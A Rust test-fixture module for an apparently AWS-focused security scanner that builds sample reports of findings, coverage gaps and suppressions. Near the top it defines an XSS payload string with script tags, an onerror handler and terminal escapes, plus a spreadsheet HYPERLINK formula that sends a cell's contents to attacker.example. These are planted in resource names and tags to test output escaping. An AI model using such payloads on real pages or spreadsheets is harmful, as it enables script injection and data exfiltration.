//! A report to write: every verdict, two accounts and one that could not be read, gaps of
//! several causes, and names that somebody chose to do harm.

use std::{borrow::Cow, collections::BTreeMap};

use demarc_model::{
    ControlType, Layer, ServiceModel, Severity, Tags, Verdict, finding::Identity, time::Timestamp,
};
use demarc_report::{
    AccountError, AccountRow, BoundaryRef, CallRow, Carried, CellState, Change, ControlRef,
    ControlTypeRow, Counts, Coverage, EvidenceItem, Finding, Gap, Head, InheritedRow, MatrixCell,
    MatrixRow, NotAssessed, Owner, Report, ResourceRef, SCHEMA_VERSION, Scan, Share, Summary,
    Suppressed, SuppressionNote, SuppressionNoteKind, Tool,
};

/// Runs where a name is put into a page unescaped; breaks out of Markdown, CSV and a terminal.
pub(crate) const HOSTILE: &str = "</script><script>window.pwned=1</script><img src=x onerror=\"window.pwned=1\">|`\u{1b}[31m&'\u{2028}";
/// Runs where a spreadsheet takes a cell for a formula.
pub(crate) const FORMULA: &str = "=HYPERLINK(\"https://attacker.example/\"&A1)";

const TAKEN_AT: i64 = 1_795_305_600;
const PROD: &str = "111122223333";
const AUDIT: &str = "444455556666";

struct Kind {
    check: &'static str,
    title: &'static str,
    severity: Severity,
    service: &'static str,
    layer: Layer,
    control_type: ControlType,
    resource: &'static str,
    model: ServiceModel,
    owner: Owner,
    aws: &'static str,
    customer: &'static str,
    controls: &'static [(&'static str, &'static str)],
    field: &'static str,
    observed: &'static str,
    expected: &'static str,
    call: &'static str,
    action: &'static str,
    remediation: &'static str,
}

const KINDS: [Kind; 9] = [
    Kind {
        check: "ec2.security-group-private-ports",
        title: "no port that should be private is open to the internet",
        severity: Severity::Critical,
        service: "ec2",
        layer: Layer::FirewallConfiguration,
        control_type: ControlType::CustomerSpecific,
        resource: "AWS::EC2::SecurityGroup",
        model: ServiceModel::Infrastructure,
        owner: Owner::Customer,
        aws: "AWS enforces the rules of security groups and network ACLs as configured.",
        customer: "Admit only the sources and ports that the workload needs.",
        controls: &[("cis-aws-7.0.0", "6.3"), ("aws-fsbp", "EC2.19"), ("nist-800-53-r5", "SC-7")],
        field: "IpPermissions[0].IpRanges[0].CidrIp",
        observed: "0.0.0.0/0 on port 22 (SSH)",
        expected: "a private or known source",
        call: "EC2 DescribeSecurityGroups",
        action: "ec2:DescribeSecurityGroups",
        remediation: "Replace the open source by the addresses that need it:\n```sh\naws ec2 revoke-security-group-ingress --group-id GROUP --protocol tcp --port 22 --cidr 0.0.0.0/0\n```\nReach instances through *Session Manager* instead: see\n<https://docs.aws.amazon.com/systems-manager/latest/userguide/session-manager.html>.",
    },
    Kind {
        check: "s3.bucket-public-access-block",
        title: "bucket blocks all public access",
        severity: Severity::High,
        service: "s3",
        layer: Layer::CustomerData,
        control_type: ControlType::SharedConfigurationManagement,
        resource: "AWS::S3::Bucket",
        model: ServiceModel::Abstracted,
        owner: Owner::Both,
        aws: "AWS evaluates policies and ACLs on every request and blocks new buckets by default.",
        customer: "Keep Block Public Access on, for the account and for each bucket.",
        controls: &[("cis-aws-7.0.0", "3.1.4"), ("aws-fsbp", "S3.8")],
        field: "PublicAccessBlockConfiguration.BlockPublicPolicy",
        observed: "false",
        expected: "true",
        call: "S3 GetPublicAccessBlock",
        action: "s3:GetBucketPublicAccessBlock",
        remediation: "Turn all four flags on for the account, then on buckets that opted out:\n```sh\naws s3api put-public-access-block --bucket NAME\n```\nCheck first that no website depends on it.",
    },
    Kind {
        check: "s3.bucket-versioning",
        title: "bucket keeps earlier versions of its objects",
        severity: Severity::Low,
        service: "s3",
        layer: Layer::CustomerData,
        control_type: ControlType::CustomerSpecific,
        resource: "AWS::S3::Bucket",
        model: ServiceModel::Abstracted,
        owner: Owner::Customer,
        aws: "AWS stores each object redundantly.",
        customer: "Keep versions where an overwrite or a deletion would hurt.",
        controls: &[],
        field: "Status",
        observed: "not set",
        expected: "Enabled",
        call: "S3 GetBucketVersioning",
        action: "s3:GetBucketVersioning",
        remediation: "Turn versioning on, and add a lifecycle rule that expires old versions.",
    },
    Kind {
        check: "iam.user-console-mfa",
        title: "user with a console password has an MFA device",
        severity: Severity::High,
        service: "iam",
        layer: Layer::IdentityAccessManagement,
        control_type: ControlType::CustomerSpecific,
        resource: "AWS::IAM::User",
        model: ServiceModel::Abstracted,
        owner: Owner::Customer,
        aws: "AWS offers MFA devices and enforces them where policies ask.",
        customer: "Give every person a second factor, or no password at all.",
        controls: &[("cis-aws-7.0.0", "2.9"), ("aws-fsbp", "IAM.5")],
        field: "mfa_active",
        observed: "false",
        expected: "true",
        call: "IAM GetCredentialReport",
        action: "iam:GetCredentialReport",
        remediation: "Register a device for the user, or move people to IAM Identity Center.",
    },
    Kind {
        check: "iam.root-hardware-mfa",
        title: "root user has a hardware MFA device",
        severity: Severity::Critical,
        service: "iam",
        layer: Layer::IdentityAccessManagement,
        control_type: ControlType::CustomerSpecific,
        resource: "AWS::IAM::User",
        model: ServiceModel::Abstracted,
        owner: Owner::Customer,
        aws: "AWS offers MFA devices for the root user.",
        customer: "Guard the root user with a hardware device, kept apart.",
        controls: &[("cis-aws-7.0.0", "2.5")],
        field: "AccountMFAEnabled",
        observed: "0",
        expected: "1",
        call: "IAM GetAccountSummary",
        action: "iam:GetAccountSummary",
        remediation: "Sign in as root once and register a hardware device.",
    },
    Kind {
        check: "rds.instance-encrypted",
        title: "instance's storage is encrypted",
        severity: Severity::Medium,
        service: "rds",
        layer: Layer::ServerSideEncryption,
        control_type: ControlType::SharedConfigurationManagement,
        resource: "AWS::RDS::DBInstance",
        model: ServiceModel::Container,
        owner: Owner::Both,
        aws: "AWS encrypts volumes, logs, backups and snapshots where encryption was chosen.",
        customer: "Choose encryption, and the key, when the instance is created.",
        controls: &[("cis-aws-7.0.0", "3.2.1"), ("aws-fsbp", "RDS.3")],
        field: "StorageEncrypted",
        observed: "false",
        expected: "true",
        call: "RDS DescribeDBInstances",
        action: "rds:DescribeDBInstances",
        remediation: "Copy a snapshot with a key, restore from the copy, and switch over.",
    },
    Kind {
        check: "rds.instance-minor-upgrades",
        title: "instance takes minor engine upgrades by itself",
        severity: Severity::Medium,
        service: "rds",
        layer: Layer::Platform,
        control_type: ControlType::SharedPatchManagement,
        resource: "AWS::RDS::DBInstance",
        model: ServiceModel::Container,
        owner: Owner::Both,
        aws: "AWS patches the operating system and offers engine versions.",
        customer: "Let minor versions in, within a maintenance window of your own.",
        controls: &[("aws-fsbp", "RDS.13")],
        field: "AutoMinorVersionUpgrade",
        observed: "false",
        expected: "true",
        call: "RDS DescribeDBInstances",
        action: "rds:DescribeDBInstances",
        remediation: "`aws rds modify-db-instance --auto-minor-version-upgrade`",
    },
    Kind {
        check: "ec2.instance-imdsv2",
        title: "instance metadata asks for a session token",
        severity: Severity::High,
        service: "ec2",
        layer: Layer::OperatingSystem,
        control_type: ControlType::CustomerSpecific,
        resource: "AWS::EC2::Instance",
        model: ServiceModel::Infrastructure,
        owner: Owner::Customer,
        aws: "AWS offers version 2 of the metadata service.",
        customer: "Require version 2, so that a forwarded request cannot fetch credentials.",
        controls: &[("cis-aws-7.0.0", "6.7"), ("aws-fsbp", "EC2.8")],
        field: "MetadataOptions.HttpTokens",
        observed: "optional",
        expected: "required",
        call: "EC2 DescribeInstances",
        action: "ec2:DescribeInstances",
        remediation: "`aws ec2 modify-instance-metadata-options --http-tokens required`",
    },
    Kind {
        check: "account.contacts-current",
        title: "contact details of the account are current",
        severity: Severity::Info,
        service: "account",
        layer: Layer::Applications,
        control_type: ControlType::SharedAwarenessTraining,
        resource: "AWS::Account",
        model: ServiceModel::Abstracted,
        owner: Owner::Customer,
        aws: "AWS writes to the contacts on file.",
        customer: "Keep somebody on file who reads it.",
        controls: &[("cis-aws-7.0.0", "2.1")],
        field: "ContactInformation",
        observed: "",
        expected: "",
        call: "Account GetContactInformation",
        action: "account:GetContactInformation",
        remediation: "",
    },
];

fn kind(check: &str) -> &'static Kind {
    KINDS.iter().find(|kind| kind.check == check).expect("the check is in the table")
}

struct Place<'a> {
    account: &'a str,
    region: &'a str,
    arn: String,
    name: &'a str,
    part: &'a str,
}

fn finding(kind: &'static Kind, verdict: Verdict, place: &Place<'_>) -> Finding {
    let identity = Identity {
        partition: "aws",
        account: place.account,
        region: place.region,
        resource: &place.arn,
        check: kind.check,
        part: place.part,
    };
    let failing = verdict == Verdict::Fail;
    Finding {
        fingerprint: identity.fingerprint(),
        check: kind.check.into(),
        title: kind.title.into(),
        verdict,
        severity: kind.severity,
        account: place.account.into(),
        partition: "aws".into(),
        region: place.region.into(),
        resource: ResourceRef {
            arn: place.arn.as_str().into(),
            kind: kind.resource.into(),
            name: place.name.into(),
            tags: Some(Tags::from_iter([
                ("env".to_owned(), "prod".to_owned()),
                ("team".to_owned(), "payments".to_owned()),
            ])),
        },
        part: place.part.to_owned(),
        evidence: if failing {
            vec![EvidenceItem {
                field: kind.field.into(),
                observed: kind.observed.into(),
                expected: kind.expected.into(),
                call: kind.call.into(),
            }]
        } else {
            Vec::new()
        },
        not_assessed: (verdict == Verdict::NotAssessed).then(|| NotAssessed {
            cause: "denied".into(),
            reason: "denied by IAM (AccessDenied)".to_owned(),
            call: kind.call.into(),
            action: kind.action.into(),
        }),
        note: match verdict {
            Verdict::Manual => Some("Compare the contacts with who is on call.".into()),
            Verdict::NotApplicable => Some("the bucket is a directory bucket".into()),
            _ => None,
        },
        service: kind.service.into(),
        layer: kind.layer,
        control_type: kind.control_type,
        boundary: BoundaryRef {
            service_model: kind.model,
            owner: kind.owner,
            aws: kind.aws.into(),
            customer: kind.customer.into(),
            variant: None,
        }
        .into(),
        controls: kind
            .controls
            .iter()
            .map(|(framework, id)| ControlRef { framework: (*framework).into(), id: (*id).into() })
            .collect::<Vec<_>>()
            .into(),
        remediation: (verdict != Verdict::Pass && !kind.remediation.is_empty())
            .then(|| kind.remediation.to_owned().into()),
        change: None,
        suppressed: None,
    }
}

fn bucket(account: &str, name: &str) -> (String, String) {
    (format!("arn:aws:s3:::{name}"), account.to_owned())
}

/// A report small enough to be read.
pub(crate) fn report() -> Report {
    use Verdict::{Fail, Manual, NotApplicable, NotAssessed as Unknown, Pass};
    let mut findings = Vec::new();
    let mut add = |check: &str, verdict, account, region, arn: &str, name: &str, part: &str| {
        let place = Place { account, region, arn: arn.to_owned(), name, part };
        findings.push(finding(kind(check), verdict, &place));
        findings.len() - 1
    };
    let east = "us-east-1";
    let frankfurt = "eu-central-1";
    let sg = format!("arn:aws:ec2:{frankfurt}:{PROD}:security-group/sg-0a1b2c3d");
    let instance = format!("arn:aws:ec2:{frankfurt}:{PROD}:instance/i-0123456789abcdef0");
    let db = format!("arn:aws:rds:{east}:{PROD}:db:orders");
    let (logs, _) = bucket(PROD, "example-logs");
    let (site, _) = bucket(PROD, "example-site");
    let (vault, _) = bucket(AUDIT, "audit-vault");
    let root = |account: &str| format!("arn:aws:iam::{account}:root");
    let user = format!("arn:aws:iam::{PROD}:user/alice");

    add("account.contacts-current", Manual, PROD, "global", &root(PROD), PROD, "");
    add("iam.root-hardware-mfa", Fail, PROD, "global", &root(PROD), "root", "");
    add("iam.user-console-mfa", Fail, PROD, "global", &user, "alice", "");
    let open = add(
        "ec2.security-group-private-ports",
        Fail,
        PROD,
        frankfurt,
        &sg,
        "web",
        "sgr-0f00ba4 tcp/22 0.0.0.0/0",
    );
    let imds = add("ec2.instance-imdsv2", Fail, PROD, frankfurt, &instance, "web-1", "");
    let public =
        add("s3.bucket-public-access-block", Fail, PROD, frankfurt, &logs, "example-logs", "");
    let versions = add("s3.bucket-versioning", Fail, PROD, frankfurt, &logs, "example-logs", "");
    add("s3.bucket-public-access-block", Pass, PROD, frankfurt, &site, "example-site", "");
    add("s3.bucket-versioning", NotApplicable, PROD, frankfurt, &site, "example-site", "");
    let encrypted = add("rds.instance-encrypted", Fail, PROD, east, &db, "orders", "");
    add("rds.instance-minor-upgrades", Pass, PROD, east, &db, "orders", "");
    add("account.contacts-current", Manual, AUDIT, "global", &root(AUDIT), AUDIT, "");
    let summary = add("iam.root-hardware-mfa", Unknown, AUDIT, "global", &root(AUDIT), "root", "");
    add("s3.bucket-public-access-block", Unknown, AUDIT, east, &vault, "audit-vault", "");
    let untagged = add("s3.bucket-versioning", Pass, AUDIT, east, &vault, "audit-vault", "");
    add("ec2.security-group-private-ports", Unknown, AUDIT, frankfurt, &root(AUDIT), AUDIT, "");

    findings[open].evidence.push(EvidenceItem {
        field: "IpPermissions[0].Ipv6Ranges[0].CidrIpv6".into(),
        observed: "::/0 on port 22 (SSH)".into(),
        expected: "a private or known source".into(),
        call: "EC2 DescribeSecurityGroups".into(),
    });
    findings[open].change = Some(Change::New);
    let boundary = BoundaryRef::clone(&findings[open].boundary);
    findings[open].boundary = BoundaryRef { variant: Some("on-ec2".into()), ..boundary }.into();
    let instance = &mut findings[imds];
    instance.resource.name = HOSTILE.into();
    instance.resource.tags = Some(Tags::from_iter([
        ("Name".to_owned(), HOSTILE.to_owned()),
        (HOSTILE.to_owned(), FORMULA.to_owned()),
    ]));
    findings[public].resource.name = FORMULA.into();
    findings[public].evidence[0].observed = HOSTILE.into();
    findings[public].change = Some(Change::Reopened);
    findings[versions].suppressed = Some(Suppressed {
        owner: "storage@example.com".to_owned(),
        reason: "logs are written once | kept 30 days".to_owned(),
        expires: "2027-03-31".to_owned(),
    });
    findings[encrypted].change = Some(Change::Unchanged);
    findings[untagged].resource.tags = None;
    let why = findings[summary].not_assessed.as_mut().expect("it is not assessed");
    why.cause = "denied-by-scp".into();
    "denied by an organization's control policy (AccessDenied)".clone_into(&mut why.reason);

    findings.sort_by(|a, b| a.sort_key().cmp(&b.sort_key()));
    Report { head: head(findings.iter()), findings }
}

/// The same with what a baseline and a file of suppressions bring.
pub(crate) fn accepted() -> Report {
    let mut report = report();
    report.head.suppressions = vec![SuppressionNote {
        kind: SuppressionNoteKind::Expired,
        entry: 1,
        selects: format!("check = \"s3.bucket-versioning\", resource = \"{HOSTILE}\""),
        owner: "storage@example.com".to_owned(),
        reason: FORMULA.to_owned(),
        expires: "2026-10-31".to_owned(),
        text: "expired on 2026-10-31: renew it or fix what it accepts".to_owned(),
    }];
    let carried =
        report.findings.iter().filter(|finding| finding.is_open()).map(|finding| Carried {
            fingerprint: finding.fingerprint.clone(),
            check: (*finding.check).into(),
            title: (*finding.title).into(),
            severity: finding.severity,
            account: finding.account.clone(),
            partition: finding.partition.clone(),
            region: finding.region.clone(),
            resource: finding.resource.clone(),
            part: HOSTILE.into(),
            layer: finding.layer,
            evidence_hash: String::new(),
            expected_hash: String::new(),
            suppressed: finding.severity < Severity::High,
            last_failed: Timestamp(TAKEN_AT - 86_400),
        });
    report.head.carried = carried.collect();
    report
}

/// A report of about `size` findings, made as it is read.
pub(crate) fn large(size: usize) -> (Head, impl Iterator<Item = Finding> + Clone) {
    let findings = (0..size).map(move |index| {
        let kind = &KINDS[index % 8];
        let verdict = match index % 11 {
            0..=2 => Verdict::Fail,
            3 => Verdict::NotAssessed,
            10 if index % 7 == 0 => Verdict::NotApplicable,
            _ => Verdict::Pass,
        };
        let account = format!("{:012}", 100_000_000_000 + (index / 10_000) * 1_111);
        let regions = ["eu-central-1", "us-east-1", "ap-southeast-2", "sa-east-1"];
        let region = if kind.service == "iam" { "global" } else { regions[(index / 2_500) % 4] };
        let name = format!("{}-{index:06}", kind.service);
        let arn = format!("arn:aws:{}:{region}:{account}:thing/{name}", kind.service);
        let place = Place { account: &account, region, arn, name: &name, part: "" };
        let mut finding = finding(kind, verdict, &place);
        if index == size / 2 {
            finding.resource.tags =
                Some(Tags::from_iter([("Name".to_owned(), HOSTILE.to_owned())]));
            finding.resource.name = HOSTILE.into();
        }
        finding
    });
    (head(findings.clone()), findings)
}

fn owned(model: ServiceModel, layer: Layer) -> (Owner, &'static str, &'static str) {
    match (model, layer) {
        (ServiceModel::Infrastructure, _) => (
            Owner::Customer,
            "AWS runs the hosts and the hypervisor.",
            "Configure and patch what runs on them.",
        ),
        (_, Layer::OperatingSystem) => (Owner::Aws, "AWS installs and patches it.", ""),
        (ServiceModel::Container, _) => (
            Owner::Both,
            "AWS runs the engine and its host.",
            "Choose its settings and who may reach it.",
        ),
        (ServiceModel::Abstracted, Layer::NetworkConfiguration | Layer::Platform) => {
            (Owner::Aws, "AWS runs the platform.", "")
        }
        (ServiceModel::Abstracted, Layer::FirewallConfiguration) => {
            (Owner::None, "There is no such layer.", "")
        }
        (ServiceModel::Abstracted, _) => (
            Owner::Customer,
            "AWS enforces what is configured.",
            "Decide who may reach the data, and how it is protected.",
        ),
    }
}

fn matrix(by_cell: &BTreeMap<(Cow<'static, str>, Layer), Counts>) -> Vec<MatrixRow> {
    let services = [
        ("account", "AWS Account Management", ServiceModel::Abstracted),
        ("ec2", "Amazon EC2", ServiceModel::Infrastructure),
        ("iam", "AWS IAM", ServiceModel::Abstracted),
        ("rds", "Amazon RDS", ServiceModel::Container),
        ("s3", "Amazon S3", ServiceModel::Abstracted),
    ];
    let cell = |service: &str, model, layer: Layer| {
        let (owner, aws, customer) = owned(model, layer);
        let verdicts =
            by_cell.get(&(Cow::Owned(service.to_owned()), layer)).copied().unwrap_or_default();
        let checks = KINDS.iter().filter(|k| k.service == service && k.layer == layer).count();
        let unseen =
            matches!(layer, Layer::ClientSideDataEncryption | Layer::DataIntegrityAuthentication);
        let state = match owner {
            Owner::Aws | Owner::None => CellState::NotYours,
            _ if verdicts.fail > verdicts.suppressed => CellState::Failed,
            _ if verdicts.not_assessed > 0 => CellState::NotAssessed,
            _ if verdicts.pass > 0 => CellState::Passed,
            _ if unseen => CellState::Invisible,
            _ => CellState::NoCheck,
        };
        MatrixCell {
            owner,
            state,
            checks: checks as u64,
            verdicts,
            aws: aws.to_owned(),
            customer: customer.to_owned(),
            instead: (state == CellState::Invisible).then(|| {
                "Review what your clients encrypt and sign before they upload it.".to_owned()
            }),
        }
    };
    services
        .into_iter()
        .map(|(service, name, service_model)| MatrixRow {
            service: service.to_owned(),
            name: name.to_owned(),
            service_model,
            cells: Layer::ALL
                .into_iter()
                .map(|layer| (layer, cell(service, service_model, layer)))
                .collect(),
        })
        .collect()
}

fn control_types(summary: &Summary) -> Vec<ControlTypeRow> {
    let row = |id: ControlType| {
        let (title, meaning, aws, customer) = match id {
            ControlType::Inherited => (
                "Inherited",
                "A control that you fully inherit from AWS.",
                "AWS operates the control and has it audited.",
                "You fetch the report from AWS Artifact.",
            ),
            ControlType::SharedPatchManagement => (
                "Shared: patch management",
                "Both sides patch, each what it runs.",
                "AWS patches hosts and managed services.",
                "You patch guests, applications and images.",
            ),
            ControlType::SharedConfigurationManagement => (
                "Shared: configuration management",
                "AWS offers a safe setting, and you choose it.",
                "AWS configures its infrastructure.",
                "You configure your systems and AWS resources.",
            ),
            ControlType::SharedAwarenessTraining => (
                "Shared: awareness and training",
                "Both sides prepare their own people.",
                "AWS trains its employees.",
                "You train yours, and name contacts.",
            ),
            ControlType::CustomerSpecific => (
                "Customer-specific",
                "A control that is yours alone.",
                "AWS enforces what you configure.",
                "You decide who may act, and which data is whose.",
            ),
        };
        ControlTypeRow {
            id,
            title: title.to_owned(),
            meaning: meaning.to_owned(),
            aws: aws.to_owned(),
            customer: customer.to_owned(),
            verdicts: summary.by_control_type.get(&id).copied().unwrap_or_default(),
        }
    };
    ControlType::ALL.map(row).to_vec()
}

fn inherited() -> Vec<InheritedRow> {
    let soc = "SOC 2 Type 2 report";
    let rows: [(&str, &str, &str, &[&str]); 2] = [
        (
            "physical-access",
            "Physical access to data centers",
            "AWS admits only approved people, and reviews the logs.",
            &[soc, "ISO/IEC 27001 certificate"],
        ),
        (
            "media-disposal",
            "Decommissioning of storage media",
            "AWS keeps media under its control until they are destroyed.",
            &[soc],
        ),
    ];
    rows.map(|(id, title, aws, evidence)| InheritedRow {
        id: id.to_owned(),
        title: title.to_owned(),
        aws: aws.to_owned(),
        evidence: evidence.iter().map(|name| (*name).to_owned()).collect(),
        page: "https://aws.amazon.com/compliance/data-center/controls/".to_owned(),
    })
    .to_vec()
}

/// What precedes these findings, counted from them.
#[expect(clippy::too_many_lines, reason = "one pass over the findings fills every part")]
fn head(findings: impl Iterator<Item = impl std::borrow::Borrow<Finding>>) -> Head {
    let mut summary = Summary::default();
    let mut accounts: BTreeMap<String, AccountRow> = BTreeMap::new();
    let mut by_cell = BTreeMap::new();
    let mut gaps: BTreeMap<(String, String), Gap> = BTreeMap::new();
    let mut coverage = Coverage::default();
    for finding in findings {
        let finding: &Finding = finding.borrow();
        let suppressed = finding.suppressed.is_some();
        let verdict = finding.verdict;
        summary.verdicts.add(verdict, suppressed);
        summary.by_layer.entry(finding.layer).or_default().add(verdict, suppressed);
        let service = finding.service.to_string();
        summary.by_service.entry(service.clone()).or_default().add(verdict, suppressed);
        summary.by_control_type.entry(finding.control_type).or_default().add(verdict, suppressed);
        let check = finding.check.to_string();
        summary.by_check.entry(check.clone()).or_default().add(verdict, suppressed);
        by_cell
            .entry((finding.service.clone(), finding.layer))
            .or_insert_with(Counts::default)
            .add(verdict, suppressed);
        let account = accounts.entry(finding.account.to_string()).or_insert_with(|| AccountRow {
            id: finding.account.to_string(),
            name: match &*finding.account {
                PROD => Some("prod".to_owned()),
                AUDIT => Some("audit <b>&".to_owned()),
                _ => None,
            },
            partition: "aws".to_owned(),
            caller: Some(format!("arn:aws:iam::{}:role/demarc", finding.account)),
            regions: vec!["eu-central-1".to_owned(), "us-east-1".to_owned()],
            error: None,
            verdicts: Counts::default(),
            failed: BTreeMap::new(),
            looks: Share::default(),
        });
        account.verdicts.add(verdict, suppressed);
        let complete = verdict != Verdict::NotAssessed;
        account.looks.add(complete);
        coverage.looks.add(complete);
        coverage.by_check.entry(check.clone()).or_default().add(complete);
        coverage.by_service.entry(service.clone()).or_default().add(complete);
        coverage.by_layer.entry(finding.layer).or_default().add(complete);
        if finding.is_open() {
            *summary.failed.entry(finding.severity).or_default() += 1;
            *account.failed.entry(finding.severity).or_default() += 1;
        }
        if let Some(why) = &finding.not_assessed {
            let (of, operation) = why.call.split_once(' ').expect("calls have two words");
            let key = (why.cause.to_string(), why.action.to_string());
            let gap = gaps.entry(key).or_insert_with(|| Gap {
                cause: why.cause.to_string(),
                service: of.to_owned(),
                operation: operation.to_owned(),
                action: why.action.to_string(),
                reason: why.reason.clone(),
                checks: vec![check],
                accounts: Vec::new(),
                accounts_total: 0,
                regions: Vec::new(),
                findings: 0,
            });
            gap.findings += 1;
            if !gap.regions.contains(&finding.region.to_string()) {
                gap.regions.push(finding.region.to_string());
            }
            if !gap.accounts.contains(&finding.account.to_string()) {
                gap.accounts_total += 1;
                gap.accounts.push(finding.account.to_string());
            }
        }
    }
    accounts.insert(
        "777788889999".to_owned(),
        AccountRow {
            id: "777788889999".to_owned(),
            name: Some("sandbox".to_owned()),
            partition: "aws".to_owned(),
            caller: None,
            regions: Vec::new(),
            error: Some(AccountError {
                cause: "denied".to_owned(),
                reason: "cannot assume role \"demarc\": denied by IAM (AccessDenied)".to_owned(),
            }),
            verdicts: Counts::default(),
            failed: BTreeMap::new(),
            looks: Share { complete: 0, of: KINDS.len() as u64 },
        },
    );
    coverage.looks.of += KINDS.len() as u64;
    coverage.calls = KINDS
        .iter()
        .map(|kind| {
            let (service, operation) = kind.call.split_once(' ').expect("calls have two words");
            let unanswered = gaps.values().filter(|gap| gap.action == kind.action);
            CallRow {
                service: service.to_owned(),
                operation: operation.to_owned(),
                action: kind.action.to_owned(),
                answered: 2,
                unanswered: unanswered.map(|gap| (gap.cause.clone(), gap.findings)).collect(),
            }
        })
        .collect();
    coverage.calls.sort_by(|a, b| (&a.service, &a.operation).cmp(&(&b.service, &b.operation)));
    coverage.calls.dedup();
    coverage.gaps = gaps.into_values().collect();
    coverage.gaps.sort_by_key(|gap| std::cmp::Reverse(gap.findings));
    let mut checks: Vec<_> = KINDS.iter().map(|kind| kind.check.to_owned()).collect();
    checks.sort();
    Head {
        schema_version: SCHEMA_VERSION.to_owned(),
        tool: Tool { name: "demarc".to_owned(), version: "0.1.0".to_owned() },
        scan: Scan {
            taken_at: Timestamp(TAKEN_AT),
            taken_at_rfc3339: Timestamp(TAKEN_AT).rfc3339(),
            checks,
            failing_only: false,
            stopped: None,
        },
        accounts: accounts.into_values().collect(),
        control_types: control_types(&summary),
        inherited: inherited(),
        summary,
        matrix: matrix(&by_cell),
        coverage,
        suppressions: Vec::new(),
        carried: Vec::new(),
    }
}
